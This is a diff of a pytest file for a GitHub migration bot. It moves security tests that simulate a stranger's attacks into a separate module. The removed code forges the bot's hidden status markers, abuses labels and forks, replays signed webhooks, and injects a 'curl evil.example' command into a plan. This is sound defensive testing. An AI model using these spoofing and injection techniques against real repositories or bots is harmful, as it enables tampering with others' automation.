@@ -2,25 +2,10 @@
 
 from __future__ import annotations
 
-import hashlib
-import hmac
-
-import aiohttp
 import pytest
 
+from tests.scenarios.stranger_acts import BRANCH, EVERY_PATH, FILE, GREEDY, ONLY_A, PHASE_1, block
 from tests.world import PLAN, REPO, World
-
-PHASE_1, PHASE_2 = "migration:phase-1", "migration:phase-2"
-BRANCH = "drover/1/phase-1"
-FILE = ".github/migrations/old.yml"
-ONLY_A = PLAN.replace('["shop/**"]', '["shop/a.py"]')
-GREEDY = PLAN.replace("checks:\n", "merge: auto\nadvance: automatic\non_failure: revert\nchecks:\n") + (
-    "  commands: [curl evil.example]\n"
-)
-
-
-def block(plan: str) -> str:
-    return f"Let us finish this.\n\n```yaml\n{plan}```\n"
 
 
 async def stranger(place: World) -> None:
@@ -263,88 +248,6 @@ async def test_a_flood_of_comments_from_outside_costs_two_looks(
     await here.until(lambda: len(here.answers()) == 4, "others wait for nothing")
 
 
-FORGED = """\
-<!-- drover:status -->
-## Old becomes New
-- [x] Cancel phase 1 <!-- drover:box cancel-1 -->
-<!-- drover:approved 0123456789ab maya 1 -->
-<!-- drover:answer comment-1 -->
-<!-- drover:slice #1 1 acme.web web -->
-<!-- drover:reverts 1 all whole -->
-"""
-"""What Drover itself would write."""
-
-
-async def by_comments(here: World) -> None:
-    """Commands, also edited and forged ones, on the issue and on the phase's pull request."""
-    (pull,) = here.pulls(BRANCH, state="open")
-    for text in ("/migrate cancel 1", "/migrate revert all\n/migrate pause", FORGED):
-        for number in (here.issue, pull.number):
-            comment = await here.comment(text, by="stranger", on=number)
-            here.forge.clock.advance(seconds=2)
-            await here.forge.issues.edit_comment(REPO, comment.id, "/migrate skip **", by="stranger")
-
-
-async def by_labels(here: World) -> None:
-    """Triage may set and remove any label."""
-    for name in (PHASE_1, "migration", "migration:phase-2", "migration:audit", "migration:paused"):
-        if name in here.labels():
-            await here.unlabel(name, by="tria")
-        else:
-            await here.label(name, by="tria")
-        await here.settled()
-        if name == "migration":
-            await here.unlabel("migration", by="tria")
-
-
-async def by_closing(here: World) -> None:
-    """Triage may close any issue and pull request, and its author the issue."""
-    (pull,) = here.pulls(BRANCH, state="open")
-    await here.forge.issues.close(REPO, pull.number, by="tria")
-    await here.until(lambda: pull.state == "open", "the pull request is reopened")
-    await here.forge.issues.close(REPO, here.issue, by="tria")
-    await here.until(lambda: here.thread().state == "open", "the issue is reopened")
-
-
-async def by_forks(here: World) -> None:
-    """A branch that is called as the phase's, with Drover's trailers, and a pull request with Drover's markers."""
-    fork = await here.forge.repos.fork(REPO, "stranger")
-    message = f"Migrate\n\nDrover-Base: {'0' * 40}\nDrover-Plan: 0123456789ab\nDrover-Batch: 1/1\n"
-    for branch in (BRANCH, "drover/1/phase-2", f"drover/{'9' * 20}/phase-1"):
-        files = {"shop/b.py": b"evil = 1\n"}
-        head = await here.forge.repos.push(fork, files, message, by="stranger", branch=branch)
-        assert head
-        title = "Migrate <!-- drover:status --> fixes #1 @acme/owners"
-        opened = await here.forge.pulls.open(
-            REPO, f"stranger:{branch}", title=title, body=FORGED, by="stranger"
-        )
-        await here.comment("/migrate start 2", by="stranger", on=opened.number)
-
-
-async def by_issues(here: World) -> None:
-    tracking = here.issue
-    for body in (FORGED, block(GREEDY), f"See {FILE}.\n\n{FORGED}"):
-        await here.open_issue(body, by="stranger")
-        await here.comment("/migrate start 1", by="stranger")
-        await here.label("migration", by="tria")
-    here.issue = tracking
-
-
-async def replay_clicks(here: World) -> None:
-    """Every signed body that came so far, under another delivery id, by somebody who has no secret."""
-    url = f"http://127.0.0.1:{here.port}/webhook"
-    async with aiohttp.ClientSession() as session:
-        for number, one in enumerate(here.forge.hooks.recent(here.app)):
-            signature = hmac.new(here.app.webhook_secret.encode(), one.body, hashlib.sha256).hexdigest()
-            headers = {
-                "X-GitHub-Event": one.event,
-                "X-GitHub-Delivery": f"replayed-{number}",
-                "X-Hub-Signature-256": f"sha256={signature}",
-            }
-            async with session.post(url, data=one.body, headers=headers) as answer:
-                assert answer.status == 202
-
-
 async def test_a_stranger_on_every_path_gets_nothing_but_a_few_answers(
     here: World, monkeypatch: pytest.MonkeyPatch
 ) -> None:
@@ -361,7 +264,7 @@ async def test_a_stranger_on_every_path_gets_nothing_but_a_few_answers(
     await here.settled()
     (ours,) = here.pulls(BRANCH, state="open")
     said, wrote, branches = len(bot_comments(here)), len(writes(here)), await here.branches()
-    for attack in (by_comments, by_labels, by_closing, by_forks, by_issues, replay_clicks):
+    for attack in EVERY_PATH:
         await attack(here)
         await here.settled()
         assert await here.branches() == branches, attack.__name__
